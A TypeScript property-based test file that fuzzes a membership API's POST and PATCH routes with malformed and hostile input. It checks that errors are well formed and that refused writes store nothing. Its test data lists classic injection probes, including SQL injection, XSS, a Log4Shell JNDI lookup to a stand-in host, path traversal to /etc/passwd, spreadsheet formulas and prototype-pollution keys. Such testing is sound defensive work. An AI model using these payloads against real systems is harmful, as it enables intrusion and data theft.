/**
 * Hostile and arbitrary input to the member write routes (POST /v1/members, PATCH /v1/members/{id},
 * PATCH /v1/me), on DynamoDB Local. Whatever arrives:
 * - never a 5xx;
 * - every 4xx is application/problem+json with type, title, status (equal to the HTTP status), detail;
 * - a refused request stores nothing: the raw table is byte-for-byte what it was (which covers the
 *   directory list, the member's ETag and its history);
 * - an accepted request stores a member that reads back valid against `memberSchema`, with only
 *   well-formed, control-free text, equal to what the write answered.
 */
import { createHash } from 'node:crypto';
import { isDeepStrictEqual } from 'node:util';
import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { memberProfileFields, memberSchema } from '../../shared/domain/member-schema.ts';
import { maxMinorUnits } from '../../shared/domain/money.ts';
import { withInnCheckDigits } from '../../shared/domain/tax-id.ts';
import { topics } from '../../shared/domain/topics.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';

let t: TestApp;
let staff: string;
let target: { id: string; token: string };
let otherTaxId: string;
let otherEmail: string;

beforeAll(async () => {
  t = await createTestApp();
  staff = await t.token('staff');
  const created = await post(JSON.stringify(validCreate(100_000_001)), 'application/json');
  expect(created.status).toBe(201);
  const id = ((await created.json()) as { id: string }).id;
  target = { id, token: await t.token('member', id) };
  const other = validCreate(100_000_002);
  otherTaxId = other.taxId;
  otherEmail = other.contacts[0]!.email;
  expect((await post(JSON.stringify(other), 'application/json')).status).toBe(201);
});
afterAll(() => t.drop());

// ---- requests and invariants -------------------------------------------------------------------

function post(text: string, contentType: string | undefined, token = staff) {
  return t.app.request('/v1/members', {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, ...(contentType ? { 'content-type': contentType } : {}) },
    body: text,
  });
}

async function patch(
  path: string,
  text: string,
  contentType: string | undefined,
  token: string,
  ifMatch: string | undefined,
) {
  return t.app.request(path, {
    method: 'PATCH',
    headers: {
      authorization: `Bearer ${token}`,
      ...(contentType ? { 'content-type': contentType } : {}),
      ...(ifMatch ? { 'if-match': ifMatch } : {}),
    },
    body: text,
  });
}

/** Every item in the table, in a canonical order: the strongest form of "nothing was stored". */
async function snapshot(): Promise<string> {
  const lines: string[] = [];
  let startKey: Record<string, unknown> | undefined;
  do {
    const page = await t.db.doc.send(
      new ScanCommand({ TableName: t.db.tableName, ExclusiveStartKey: startKey, ConsistentRead: true }),
    );
    for (const item of page.Items ?? []) lines.push(canonical(item));
    startKey = page.LastEvaluatedKey;
  } while (startKey);
  return createHash('sha256').update(lines.sort().join('\n')).digest('hex');
}

function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value instanceof Set) return canonical([...value].sort());
  if (value !== null && typeof value === 'object') {
    const entries = Object.entries(value as Record<string, unknown>).sort(([a], [b]) => (a < b ? -1 : 1));
    return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${canonical(v)}`).join(',')}}`;
  }
  return JSON.stringify(value);
}

/** Text the table stores must be well-formed Unicode without control characters (tab, newline aside). */
function badStrings(value: unknown, path = ''): string[] {
  if (typeof value === 'string') {
    return value.isWellFormed() && !/\p{Cc}/u.test(value.replace(/[\n\t]/g, '')) ? [] : [path];
  }
  if (Array.isArray(value)) return value.flatMap((v, i) => badStrings(v, `${path}.${i}`));
  if (value !== null && typeof value === 'object') {
    return Object.entries(value).flatMap(([k, v]) => badStrings(v, `${path}.${k}`));
  }
  return [];
}

interface Outcome {
  status: number;
  body: unknown;
}

const statusTally = new Map<number, number>();
afterAll(() => {
  if (process.env.PROPERTY_TALLY) console.log(Object.fromEntries(statusTally));
});

async function outcomeOf(response: Response): Promise<Outcome> {
  const text = await response.text();
  statusTally.set(response.status, (statusTally.get(response.status) ?? 0) + 1);
  expect(response.status, text).toBeLessThan(500);
  if (response.status >= 400) {
    expect(response.headers.get('content-type'), text).toContain('application/problem+json');
    const problem = JSON.parse(text) as Record<string, unknown>;
    expect(typeof problem.type, text).toBe('string');
    expect(typeof problem.title, text).toBe('string');
    expect(problem.status, text).toBe(response.status);
    expect(typeof problem.detail, text).toBe('string');
    expect(text).not.toMatch(/at .+\.(ts|js):\d+|Exception|stack/);
    return { status: response.status, body: problem };
  }
  return { status: response.status, body: JSON.parse(text) };
}

/** `token` is the writer's: what a write answers is the member as its caller reads it. */
async function expectStoredValid(written: unknown, token = staff) {
  const { id } = written as { id: string };
  const read = await t.call('GET', `/v1/members/${id}`, { token });
  expect(read.status).toBe(200);
  const stored = (await read.json()) as unknown;
  const parsed = memberSchema.safeParse(stored);
  expect(parsed.success, JSON.stringify(parsed.error?.issues)).toBe(true);
  expect(badStrings(stored)).toEqual([]);
  // What the write answered is what was stored.
  expect(stored).toEqual(written);
}

async function etagOf(id: string) {
  return (await t.call('GET', `/v1/members/${id}`, { token: staff })).headers.get('etag') ?? undefined;
}

// ---- generators --------------------------------------------------------------------------------

function validCreate(innBody: number) {
  const inn = withInnCheckDigits(String(innBody));
  return {
    name: `ООО «Свойство ${inn}»`,
    country: 'RU',
    region: 'RU-VLA',
    taxId: inn,
    sectors: ['energy'],
    interests: ['logistics'],
    languages: ['ru', 'en'],
    verifiedRevenue: { amount: 10_000_000_000, currency: 'RUB' },
    contacts: [
      {
        name: 'Анна Петрова',
        email: `anna.${inn}@prop.ru`,
        language: 'ru' as const,
        consent: { news: true },
      },
    ],
  };
}

const injection = [
  "' OR 1=1 --",
  "Robert'); DROP TABLE members;--",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4Shell probe, not a template.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '../../../etc/passwd',
  '$where: sleep(1000)',
  '=HYPERLINK("http://evil.example")',
];
const unicode = [
  'ООО «Владкон»',
  'Công ty TNHH Việt Tiến',
  'Việt Владкон 株式会社 🇻🇳',
  '🚀🔥👩‍👩‍👧‍👦',
  'Z̴̡̢a̷͉l̸̰g̶o̵',
  'שלום עולם',
  'مرحبا',
  '\u202egnp.exe',
  'ＡＢＣ',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\ufeffBOM',
  'e\u0301',
];
const broken = [
  '',
  ' ',
  '  \t  ',
  '\n',
  '\u00a0\u3000',
  '\u0000',
  'a\u0000b',
  '\u001b[2J',
  'line\rbreak',
  '\u007f',
  '\ud800',
  'x\udc00y',
  '\udbff\udbff',
  'a'.repeat(201),
  'é'.repeat(2001),
];

const hostileString = fc.oneof(
  fc.constantFrom(...injection, ...unicode, ...broken, '__proto__', 'constructor', 'null', 'NaN'),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
);
const hostileNumber = fc.oneof(
  fc.constantFrom(-1, 0.5, 1.5, -0.01, 1e21, 1e308, -1e308, Number.MAX_SAFE_INTEGER, 2 ** 53, 2 ** 64),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);
const currency = fc.constantFrom('RUB', 'USD', 'VND', 'EUR', 'CNY', 'XXX', 'rub', '', null);
const hostileMoney = fc.oneof(
  fc.record({ amount: hostileNumber, currency }),
  fc.record({ amount: fc.constantFrom('100', null, [], {}, true), currency }),
  fc.record({ amount: fc.nat(), currency, extra: fc.constant(1) }),
  fc.record({ amount: fc.constant(Number.MAX_SAFE_INTEGER), currency: fc.constantFrom('USD', 'EUR', 'CNY') }),
  fc.constant({ amount: 100 }),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 4 },
  { arbitrary: hostileNumber, weight: 2 },
  { arbitrary: hostileMoney, weight: 2 },
  {
    arbitrary: fc.constantFrom(null, true, false, [], {}, [null], [''], ['energy', 'energy'], ['nope']),
    weight: 2,
  },
  {
    arbitrary: fc.constant(JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{}}}')),
    weight: 1,
  },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }), weight: 2 },
  { arbitrary: fc.array(fc.constantFrom(...topics), { maxLength: 10 }), weight: 1 },
);

const topFields = memberProfileFields;
const contactFields = ['id', 'name', 'email', 'phone', 'position', 'language', 'consent'];
const unknownFields = [
  'tier',
  'id',
  'version',
  'createdAt',
  'memberId',
  'isAdmin',
  'pk',
  'sk',
  '__proto__',
  '',
];

type Body = Record<string, unknown>;
type Mutation = (body: Body) => unknown;

/** One structural change to a body: a field set to a hostile value, removed, or added. */
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.tuple(fc.constantFrom(...topFields), hostileValue).map(([field, value]) => (body: Body) => ({
    ...body,
    [field]: value,
  })),
  fc.constantFrom(...topFields).map((field) => (body: Body) => {
    const copy = { ...body };
    delete copy[field];
    return copy;
  }),
  fc
    .tuple(fc.constantFrom(...unknownFields), hostileValue)
    // Through JSON.parse, so that "__proto__" becomes an own key as it does in a request body.
    .map(([field, value]) => (body: Body) => {
      const rest = JSON.stringify(body).slice(1);
      return JSON.parse(
        `{${JSON.stringify(field)}:${JSON.stringify(value) ?? 'null'}${rest === '}' ? '' : ','}${rest}`,
      );
    }),
  fc.tuple(fc.constantFrom(...contactFields), hostileValue).map(([field, value]) => (body: Body) => {
    const contacts = Array.isArray(body.contacts) ? body.contacts : [];
    const first = (contacts[0] ?? { name: 'X', email: 'x@example.com', language: 'en' }) as Body;
    return { ...body, contacts: [{ ...first, [field]: value }, ...contacts.slice(1)] };
  }),
  fc
    .tuple(fc.constantFrom('outreach', 'news', 'sms'), hostileValue)
    .map(([purpose, value]) => (body: Body) => {
      const contacts = Array.isArray(body.contacts) ? body.contacts : [];
      const first = (contacts[0] ?? { name: 'X', email: 'x@example.com', language: 'en' }) as Body;
      return { ...body, contacts: [{ ...first, consent: { [purpose]: value } }, ...contacts.slice(1)] };
    }),
  fc.constantFrom(
    // A whole body that is not an object at all.
    () => [],
    () => 'member',
    () => 42,
    () => null,
    () => true,
    // Conflicts with the other member, and a contact twice.
    (body: Body) => ({ ...body, taxId: otherTaxId }),
    (body: Body) => ({ ...body, contacts: [{ name: 'Dup', email: otherEmail, language: 'ru' }] }),
    (body: Body) => {
      const contact = (Array.isArray(body.contacts) ? body.contacts[0] : undefined) ?? {
        name: 'X',
        email: 'x@example.com',
        language: 'en',
      };
      return { ...body, contacts: [contact, contact] };
    },
  ),
);

/** Applies the mutations in turn; one that made the body a non-object hands the next one `{}`. */
function applyAll(mutations: Mutation[], body: Body): unknown {
  return mutations.reduce<unknown>(
    (b, m) => m(b !== null && typeof b === 'object' && !Array.isArray(b) ? (b as Body) : {}),
    body,
  );
}

/** Changes to the JSON text itself, after serialisation. */
type TextMutation = (text: string) => string;
const textMutation: fc.Arbitrary<TextMutation> = fc.oneof(
  { arbitrary: fc.constant((s: string) => s), weight: 6 },
  { arbitrary: fc.nat().map((n) => (s: string) => s.slice(0, n % Math.max(1, s.length))), weight: 1 },
  {
    arbitrary: fc.constantFrom('}', ',', ']', ' x', '\u0000', '{}', 'null').map((g) => (s: string) => s + g),
    weight: 1,
  },
  {
    // Raw escapes in the JSON text: lone surrogates, NUL, escaped control characters.
    arbitrary: fc
      .constantFrom('\\ud800', '\\udfff', '\\ud83d', '\\u0000', '\\u001b', '\\uFFFE')
      .map(
        (sequence) => (s: string) =>
          s.replace(/"(name|description|website|position)":"/, `"$1":"${sequence}`),
      ),
    weight: 2,
  },
  { arbitrary: fc.constant((s: string) => `\ufeff${s}`), weight: 1 },
  { arbitrary: fc.constant((s: string) => s.replace(/^\{/, '{"name":"first",')), weight: 1 },
  {
    arbitrary: fc.constant((s: string) => s.replace(/^\{/, `{"padding":"${'x'.repeat(70 * 1024)}",`)),
    weight: 1,
  },
  { arbitrary: fc.constant((s: string) => s.replace(/"amount":\d+/, '"amount":1e400')), weight: 1 },
  {
    arbitrary: fc.constant((s: string) => s.replace(/"amount":\d+/, '"amount":9007199254740993')),
    weight: 1,
  },
);

const contentType = fc.oneof(
  { arbitrary: fc.constant('application/json'), weight: 8 },
  {
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'text/csv',
      undefined,
    ),
    weight: 2,
  },
);

const numRuns = Number(process.env.PROPERTY_RUNS ?? 40);

// ---- properties --------------------------------------------------------------------------------

// The PATCH properties run first, while the table is small: every run scans it twice.
describe('PATCH with hostile input', () => {
  const patchMutation = fc.array(mutation, { minLength: 1, maxLength: 3 });

  it('PATCH /v1/members/{id} as staff: never a 5xx, refusals store nothing', async () => {
    await fc.assert(
      fc.asyncProperty(
        patchMutation,
        textMutation,
        fc.oneof(contentType, fc.constant('application/merge-patch+json')),
        fc.constantFrom('current', 'current', 'current', 'stale', 'missing', 'garbage'),
        async (mutations, onText, type, ifMatch) => {
          const body = applyAll(mutations, {});
          const text = onText(JSON.stringify(body) ?? 'null');
          const etag = await etagOf(target.id);
          const header = { current: etag, stale: '"0"', missing: undefined, garbage: 'W/"x"' }[ifMatch];
          const before = await snapshot();
          const response = await patch(`/v1/members/${target.id}`, text, type, staff, header);
          const outcome = await outcomeOf(response);
          if (outcome.status === 200) {
            await expectStoredValid(outcome.body);
          } else {
            expect(await snapshot()).toBe(before);
            expect(await etagOf(target.id)).toBe(etag);
          }
        },
      ),
      { numRuns },
    );
  });

  it('PATCH /v1/me as the member: never a 5xx, refusals store nothing, staff-owned fields never change', async () => {
    await fc.assert(
      fc.asyncProperty(
        patchMutation,
        textMutation,
        fc.oneof(contentType, fc.constant('application/merge-patch+json')),
        async (mutations, onText, type) => {
          const body = applyAll(mutations, {});
          const text = onText(JSON.stringify(body) ?? 'null');
          const current = await t.call('GET', '/v1/me', { token: target.token });
          const etag = current.headers.get('etag')!;
          const asRead = (await current.json()) as Record<string, unknown>;
          const before = await snapshot();
          const outcome = await outcomeOf(await patch('/v1/me', text, type, target.token, etag));
          if (outcome.status === 200) {
            await expectStoredValid(outcome.body, target.token);
            expect((outcome.body as { id: string }).id).toBe(target.id);
          } else {
            expect(await snapshot()).toBe(before);
          }
          // Staff-owned fields may be sent as read; whatever was sent, none of them changed.
          if (outcome.status === 200) {
            const after = outcome.body as Record<string, unknown>;
            for (const field of [
              'name',
              'country',
              'region',
              'taxId',
              'sectors',
              'status',
              'joinedOn',
              'verifiedRevenue',
            ]) {
              if (!isDeepStrictEqual(after[field], asRead[field])) {
                throw new Error(`a member changed the staff-owned ${field}: ${text.slice(0, 200)}`);
              }
            }
          }
        },
      ),
      { numRuns },
    );
  });
});

describe('POST /v1/members with hostile input', () => {
  it('never a 5xx; refusals are problems that store nothing; acceptances store a valid member', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 200_000_000, max: 999_999_999 }),
        fc.array(mutation, { maxLength: 3 }),
        textMutation,
        contentType,
        async (inn, mutations, onText, type) => {
          const body = applyAll(mutations, validCreate(inn));
          const text = onText(JSON.stringify(body) ?? 'null');
          const before = await snapshot();
          const outcome = await outcomeOf(await post(text, type));
          if (outcome.status === 201) await expectStoredValid(outcome.body);
          else expect(await snapshot()).toBe(before);
        },
      ),
      { numRuns },
    );
  });

  it('the unmutated generator is accepted (the property is not vacuous)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 200_000_000, max: 999_999_999 }), async (inn) => {
        const response = await post(JSON.stringify(validCreate(inn)), 'application/json');
        const outcome = await outcomeOf(response);
        // A random INN may already be taken by an earlier run: that is the only acceptable refusal.
        if (outcome.status === 409) return;
        expect(outcome.status).toBe(201);
        await expectStoredValid(outcome.body);
      }),
      { numRuns: 5 },
    );
  });

  it('free text in every text field: any script, emoji, injection-looking strings are stored verbatim (NFC, trimmed)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 200_000_000, max: 999_999_999 }),
        fc.constantFrom(...injection, ...unicode.filter((u) => u.trim() !== '' && !u.startsWith('\ufeff'))),
        fc.constantFrom('name', 'description', 'contactName', 'position'),
        async (inn, value, where) => {
          const body = validCreate(inn) as Body & { contacts: Body[] };
          if (where === 'contactName') body.contacts[0]!.name = value;
          else if (where === 'position') body.contacts[0]!.position = value;
          else body[where] = value;
          const outcome = await outcomeOf(await post(JSON.stringify(body), 'application/json'));
          if (outcome.status === 409) return;
          expect(outcome.status).toBe(201);
          const stored = outcome.body as { name: string; description?: string; contacts: Body[] };
          const read =
            where === 'name'
              ? stored.name
              : where === 'description'
                ? stored.description
                : where === 'contactName'
                  ? stored.contacts[0]!.name
                  : stored.contacts[0]!.position;
          expect(read).toBe(value.normalize('NFC').trim());
          await expectStoredValid(outcome.body);
        },
      ),
      { numRuns: 20 },
    );
  });
});

describe('list query strings', () => {
  it('arbitrary filters and cursors never give a 5xx', async () => {
    const value = fc.oneof(
      hostileString,
      fc.constantFrom('energy', 'RU', 'RU-VLA', 'active', 'micro', '0', '-1'),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(
          fc.constantFrom(
            'q',
            'tier',
            'sector',
            'region',
            'country',
            'interest',
            'status',
            'limit',
            'cursor',
            'x',
          ),
          value,
          { maxKeys: 3 },
        ),
        async (query) => {
          const search = new URLSearchParams(query as Record<string, string>).toString();
          await outcomeOf(await t.call('GET', `/v1/members?${search}`, { token: staff }));
        },
      ),
      { numRuns: 40 },
    );
  });
});

describe('hostile input, case by case', () => {
  async function expectCreate(text: string, status: number, type: string | null = 'application/json') {
    const before = await snapshot();
    const outcome = await outcomeOf(await post(text, type ?? undefined));
    expect(outcome.status, JSON.stringify(outcome.body)).toBe(status);
    if (status >= 400) expect(await snapshot()).toBe(before);
    return outcome;
  }
  let inn = 300_000_000;
  const body = () => validCreate(inn++);
  const withText = (field: string, rawJsonString: string) =>
    JSON.stringify({ ...body(), [field]: 'PLACEHOLDER' }).replace('"PLACEHOLDER"', rawJsonString);

  it('malformed JSON is 400', async () => {
    for (const text of ['{', '{"name":', '', 'nul', "{'name':'x'}", '{"a":1}}', '[1,]', '\u0000']) {
      await expectCreate(text, 400);
    }
  });

  it('a body that is JSON but not an object is 422', async () => {
    for (const text of ['null', '[]', '"member"', '42', 'true']) await expectCreate(text, 422);
  });

  it('wrong or missing content types are 415, a charset parameter is fine', async () => {
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'application/xml',
      'text/csv',
      null,
    ]) {
      await expectCreate(JSON.stringify(body()), 415, type);
    }
    await expectCreate(JSON.stringify(body()), 201, 'application/json; charset=utf-8');
  });

  it('a body over 64 KiB is 413', async () => {
    await expectCreate(JSON.stringify({ ...body(), description: 'x'.repeat(70 * 1024) }), 413);
    await expectCreate(`{"name":"${'я'.repeat(36 * 1024)}"}`, 413);
  });

  it('lone surrogates in the raw JSON text are 422 in every text field', async () => {
    for (const field of ['name', 'description', 'website']) {
      await expectCreate(withText(field, '"abc\\ud800"'), 422);
      await expectCreate(withText(field, '"\\udc00"'), 422);
    }
    const contact = JSON.stringify({
      ...body(),
      contacts: [{ name: 'PLACEHOLDER', email: 'lone@example.com', language: 'en' }],
    }).replace('"PLACEHOLDER"', '"x\\ud800"');
    await expectCreate(contact, 422);
  });

  it('control characters are 422 in every text field', async () => {
    for (const field of ['name', 'description', 'website']) {
      await expectCreate(withText(field, '"https://a.example/\\u0000"'), 422);
      await expectCreate(withText(field, '"https://a.example/\\u001b[2J"'), 422);
    }
  });

  it('empty and whitespace-only names are 422', async () => {
    for (const name of ['', ' ', '\t\n', '\u00a0\u3000']) {
      await expectCreate(JSON.stringify({ ...body(), name }), 422);
    }
  });

  it('money: floats, negatives, strings, huge and unsafe numbers are 422', async () => {
    for (const amount of ['1.5', '-1', '"100"', '1e400', '9007199254740993', '1e21', 'null']) {
      await expectCreate(
        JSON.stringify({ ...body(), verifiedRevenue: { amount: 0, currency: 'RUB' } }).replace(
          '"amount":0',
          `"amount":${amount}`,
        ),
        422,
      );
    }
    await expectCreate(JSON.stringify({ ...body(), verifiedRevenue: { amount: 1, currency: 'XXX' } }), 422);
  });

  it('verified revenue whose conversion overflows the tier currency is 422, not 500', async () => {
    // The largest amount a currency allows, converted to RUB (about 92 RUB to the USD), passes 2^53.
    for (const currency of ['USD', 'EUR']) {
      await expectCreate(
        JSON.stringify({ ...body(), verifiedRevenue: { amount: maxMinorUnits, currency } }),
        422,
      );
    }
    // The largest amount needs no conversion in the tier currency itself; one more is over the bound.
    await expectCreate(
      JSON.stringify({ ...body(), verifiedRevenue: { amount: maxMinorUnits, currency: 'RUB' } }),
      201,
    );
    await expectCreate(
      JSON.stringify({ ...body(), verifiedRevenue: { amount: maxMinorUnits + 1, currency: 'RUB' } }),
      422,
    );
  });

  it('unknown fields are 422, at the top and inside contacts and consent', async () => {
    await expectCreate(JSON.stringify({ ...body(), tier: 'large' }), 422);
    await expectCreate(JSON.stringify({ ...body(), id: '01JD5Z7Q8N3V2K4M6P8R0T2W4Y' }), 422);
    const b = body();
    await expectCreate(JSON.stringify({ ...b, contacts: [{ ...b.contacts[0], isAdmin: true }] }), 422);
    await expectCreate(
      JSON.stringify({ ...b, contacts: [{ ...b.contacts[0], consent: { sms: true } }] }),
      422,
    );
  });

  it('__proto__ and constructor keys are refused and pollute nothing', async () => {
    await expectCreate(JSON.stringify(body()).replace(/^\{/, '{"__proto__":{"polluted":true},'), 422);
    await expectCreate(
      JSON.stringify(body()).replace(/^\{/, '{"constructor":{"prototype":{"polluted":true}},'),
      422,
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('deeply nested JSON is a 4xx, not a stack overflow', async () => {
    const depth = 12_000;
    await expectCreate(`{"name":${'['.repeat(depth)}${']'.repeat(depth)}}`, 422);
    const etag = await etagOf(target.id);
    const before = await snapshot();
    const deep = `{"declaredRevenue":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`;
    const outcome = await outcomeOf(
      await patch(`/v1/members/${target.id}`, deep, 'application/json', staff, etag),
    );
    expect(outcome.status).toBeGreaterThanOrEqual(400);
    expect(await snapshot()).toBe(before);
  });

  it('two contacts with the same id in a patch are 422, not 500', async () => {
    const member = (await (await t.call('GET', `/v1/members/${target.id}`, { token: staff })).json()) as {
      contacts: { id: string; email: string }[];
    };
    const id = member.contacts[0]!.id;
    const before = await snapshot();
    const outcome = await outcomeOf(
      await patch(
        `/v1/members/${target.id}`,
        JSON.stringify({
          contacts: [
            { id, name: 'One', email: 'one@dup.example', language: 'en' },
            { id, name: 'Two', email: 'two@dup.example', language: 'en' },
          ],
        }),
        'application/json',
        staff,
        await etagOf(target.id),
      ),
    );
    expect(outcome.status).toBe(422);
    expect(await snapshot()).toBe(before);
  });
});
